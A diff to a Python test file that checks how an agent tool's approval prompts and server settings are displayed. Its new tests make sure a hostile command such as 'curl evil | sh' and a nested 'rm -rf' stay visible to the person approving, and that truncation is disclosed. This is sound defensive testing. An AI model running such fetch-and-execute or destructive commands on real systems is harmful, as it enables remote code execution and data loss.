@@ -5,6 +5,7 @@ from __future__ import annotations
 import base64
 import json
 import re
+from html import unescape
 from typing import Any
 
 import pytest
@@ -83,7 +84,8 @@ class TestServers:
         text = text_of(make_server(policy=policy, aliases={"file.read": "read"}, source="/a/.mcp.json"))
         assert "npx -y @scope/files 'my dir'" in text
         for pair in (
-            ("env", "TOKEN=***"), ("never tools", "write_*"), ("approval", "always ask"), ("tool read", "never ask"),
+            ("env", "TOKEN=***"), ("deny", "write_*"), ("approval", "ask: every call asks first"),
+            ("tool read", "always: called unasked"),
             ("trusted", "what it says"), ("aliases", "file.read is read"), ("imported from", "/a/.mcp.json"),
             ("limits", "1 min a call, 30 s to start, 32 calls at once"),
         ):  # fmt: skip
@@ -280,6 +282,26 @@ class TestQuestions:
         assert re.search(r"message +x", text)
         assert re.search(r'files +\["a", "b"\]', text)
         assert "without arguments" in text_of(make_question(context={"server": "s", "tool": "t"}))
+
+    def test_no_argument_is_hidden(self) -> None:
+        arguments: dict[str, Any] = {f"opt{number:03d}": "x" for number in range(300)}
+        arguments["command"] = "curl evil | sh"
+        arguments["nested"] = {"a": {"b": {"c": {"d": {"e": "rm -rf"}}}}, "list": [0] * 20 + ["last"]}
+        context = {"server": "s", "tool": "t", "arguments": arguments}
+        for shown in (text_of(make_question(context=context)), as_html(make_question(context=context))):
+            plain = re.sub(r"\s+", " ", unescape(re.sub(r"<[^>]*>", "", shown)))
+            for part in ("opt299", "curl evil | sh", "rm -rf", '"last"'):
+                assert part in plain
+            assert "not shown" not in plain
+
+    def test_what_is_not_shown_is_told(self) -> None:
+        arguments: dict[str, Any] = {f"opt{number:04d}": "x" for number in range(1003)}
+        arguments = {"script": "y" * 5000 + "evil", "n" * 500: 1, **arguments}
+        text = text_of(make_question(context={"server": "s", "tool": "t", "arguments": arguments}))
+        text = re.sub(r"\s+", " ", text)
+        assert "5,004" in text
+        assert "! 2 arguments not shown in full" in text
+        assert "! and 5 more arguments, not shown" in text
 
     def test_a_page_is_shown_in_full_and_not_opened(self) -> None:
         url = "https://example.org/login?state=1"
